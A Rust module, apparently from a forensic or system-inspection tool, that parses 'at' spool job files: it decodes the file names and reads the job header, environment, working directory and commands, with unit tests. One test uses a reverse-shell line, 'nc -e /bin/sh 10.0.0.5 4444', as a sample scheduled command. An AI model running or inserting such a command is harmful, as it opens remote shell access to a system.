//! `at` spool jobs (Linux/BSD/macOS Koenig `at`): the 14-character file name carries the queue,
//! the job number and the run time; the body is a shell script with an `# atrun` header, the
//! submitter's environment, a `cd`, then the user's commands.

use serde::Serialize;

/// What the file name says.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct AtName {
    /// Queue letter (`a` at, `b` batch, uppercase = running as batch, `=` = running).
    pub queue: char,
    /// Job number.
    pub job: u32,
    /// Scheduled run, seconds since the epoch (UTC).
    pub run_at: i64,
}

/// Decodes `a0001a019b3c2d`: queue, 5 hex digits of job number, 8 hex digits of minutes.
pub fn parse_name(name: &str) -> Option<AtName> {
    let b = name.as_bytes();
    if b.len() != 14 || !b[1..].iter().all(u8::is_ascii_hexdigit) {
        return None;
    }
    let queue = b[0] as char;
    if !(queue.is_ascii_alphabetic() || queue == '=') {
        return None;
    }
    let job = u32::from_str_radix(&name[1..6], 16).ok()?;
    let minutes = i64::from_str_radix(&name[6..14], 16).ok()?;
    Some(AtName {
        queue,
        job,
        run_at: minutes * 60,
    })
}

/// The parsed body.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct AtBody {
    /// `uid=` of the `# atrun` header.
    pub uid: Option<u32>,
    /// `gid=` of the header.
    pub gid: Option<u32>,
    /// Mail recipient from `# mail <user> <0|1>`.
    pub mail_user: Option<String>,
    /// Whether mail is always sent.
    pub mail_always: Option<bool>,
    /// `umask` value.
    pub umask: Option<String>,
    /// Exported environment variables (name, value).
    pub environment: Vec<(String, String)>,
    /// The working directory of the `cd … ||` line.
    pub working_directory: Option<String>,
    /// The user's commands (everything after the `cd` line), as one text.
    pub commands: String,
}

/// Parses the body of an at job. Without a recognisable preamble every non-comment line counts
/// as a command (nothing is dropped).
pub fn parse_body(text: &str) -> AtBody {
    let mut b = AtBody::default();
    let lines: Vec<&str> = text.lines().collect();
    let mut start = None;
    for (i, l) in lines.iter().enumerate() {
        if let Some(h) = l.strip_prefix("# atrun ") {
            for kv in h.split_whitespace() {
                if let Some(v) = kv.strip_prefix("uid=") {
                    b.uid = v.parse().ok();
                } else if let Some(v) = kv.strip_prefix("gid=") {
                    b.gid = v.parse().ok();
                }
            }
        } else if let Some(m) = l.strip_prefix("# mail ") {
            let mut it = m.split_whitespace();
            b.mail_user = it.next().map(str::to_string);
            b.mail_always = it.next().map(|v| v == "1");
        } else if let Some(u) = l.strip_prefix("umask ") {
            b.umask = Some(u.trim().to_string());
        } else if l.starts_with("cd ") && l.contains("||") {
            let dir = l[3..].split("||").next().unwrap_or("").trim();
            b.working_directory = Some(unquote(dir));
            start = Some(i + 1);
            // Skip the rest of the `{ echo …; exit 1; }` block when it spans lines.
            if !l.contains('}') {
                if let Some(end) = lines[i + 1..]
                    .iter()
                    .position(|x| x.trim_start().starts_with('}'))
                {
                    start = Some(i + 2 + end);
                }
            }
            break;
        } else if let Some((name, value)) = env_assignment(l) {
            b.environment.push((name, value));
        }
    }
    let body: Vec<&str> = match start {
        Some(s) => lines[s.min(lines.len())..].to_vec(),
        None => lines
            .iter()
            .copied()
            .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
            .collect(),
    };
    let mut commands = body.join("\n").trim_matches('\n').to_string();
    // at 3.1.14+ wraps the commands in a here-document fed to the user's shell.
    if let Some(first) = body.first() {
        if let Some(delim) = first
            .split("<< ")
            .nth(1)
            .map(|d| d.trim().trim_matches('\''))
        {
            if first.starts_with("${SHELL")
                && !delim.is_empty()
                && body.len() >= 2
                && body.last().map(|l| l.trim()) == Some(delim)
            {
                commands = body[1..body.len() - 1].join("\n");
            }
        }
    }
    b.commands = commands;
    b
}

fn unquote(s: &str) -> String {
    s.trim_matches(|c| c == '\'' || c == '"')
        .replace("\\ ", " ")
}

/// `NAME=value; export NAME` as `at` writes the environment.
fn env_assignment(l: &str) -> Option<(String, String)> {
    let (assign, export) = l.split_once("; export ")?;
    let (name, value) = assign.split_once('=')?;
    (name == export.trim()).then(|| (name.to_string(), unquote(value)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn name_from_formats_md() {
        let n = parse_name("a0001a019b3c2d").unwrap();
        assert_eq!((n.queue, n.job, n.run_at), ('a', 26, 26_950_701 * 60));
        assert_eq!(
            crate::time::Time::from_unix(n.run_at, 0, 0)
                .unwrap()
                .to_string(),
            "2021-03-29T18:21:00Z"
        );
        assert!(parse_name(".SEQ").is_none());
        assert!(parse_name("a0001a019b3c2\u{e9}").is_none());
    }

    #[test]
    fn body() {
        let t = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail bob 0\numask 22\nPATH=/usr/bin:/bin; export PATH\nHOME=/home/bob; export HOME\ncd /home/bob || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER0a1b2c3d'\nnc -e /bin/sh 10.0.0.5 4444\nmarcinDELIMITER0a1b2c3d\n";
        let b = parse_body(t);
        assert_eq!((b.uid, b.gid), (Some(1000), Some(1000)));
        assert_eq!(b.mail_user.as_deref(), Some("bob"));
        assert_eq!(b.working_directory.as_deref(), Some("/home/bob"));
        assert_eq!(b.environment[0], ("PATH".into(), "/usr/bin:/bin".into()));
        assert_eq!(b.commands, "nc -e /bin/sh 10.0.0.5 4444");
    }
}
